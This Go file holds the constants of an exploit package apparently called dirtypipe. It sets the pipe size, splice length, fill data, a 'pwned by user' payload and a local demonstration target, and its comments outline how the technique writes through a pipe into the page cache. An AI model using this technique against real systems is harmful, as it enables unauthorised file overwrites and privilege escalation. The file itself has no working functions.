// Copyright 2026 The dirtypipe Authors.
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

package exploit

// The values below are preconditions of the technique, not tunables. Changing
// any of them breaks the assumption that the pipe has exactly one slot and
// that the splice leaves that slot partially filled.
const (
	// PageSize is the host page size the technique is written for.
	PageSize = 4096

	// PipeCapacity is the pipe size requested with F_SETPIPE_SZ. One page
	// gives a ring with a single pipe_buffer.
	PipeCapacity = PageSize

	// ChunkSize is the size of every write and read used to saturate and
	// drain the pipe.
	ChunkSize = 8

	// SpliceLength is the number of bytes spliced from the start of the
	// target. The payload lands right after them.
	SpliceLength = 5

	// Payload is written through the pipe into the page cache.
	Payload = "pwned by user"

	// MappingAddress is the placement hint for the target mapping.
	MappingAddress uintptr = 0x1337000

	// TargetPath is the file the demonstration corrupts.
	TargetPath = "./target_file"
)

// fillChunk is the data written while saturating the pipe.
var fillChunk = []byte("AAAAAAAA")

// chunks is the number of ChunkSize transfers that fill PipeCapacity.
const chunks = PipeCapacity / ChunkSize
